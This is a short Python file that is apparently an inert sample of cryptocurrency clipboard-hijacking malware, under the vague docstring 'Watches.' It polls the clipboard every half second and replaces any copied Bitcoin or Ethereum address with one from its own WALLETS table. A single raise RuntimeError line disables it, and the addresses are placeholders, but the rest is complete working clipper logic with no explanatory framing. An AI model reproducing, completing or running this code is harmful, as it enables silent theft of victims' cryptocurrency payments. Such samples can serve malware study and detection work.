"""Watches."""

import re
import time

import pyperclip

raise RuntimeError("inert sample: never run")

WALLETS = {
    r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$": "bc1qplaceholderplaceholderplaceholder00000",
    r"^0x[a-fA-F0-9]{40}$": "0x0000000000000000000000000000000000000000",
}


def watch():
    while True:
        text = pyperclip.paste()
        for pattern, own in WALLETS.items():
            if re.match(pattern, text) and text != own:
                pyperclip.copy(own)
        time.sleep(0.5)


watch()
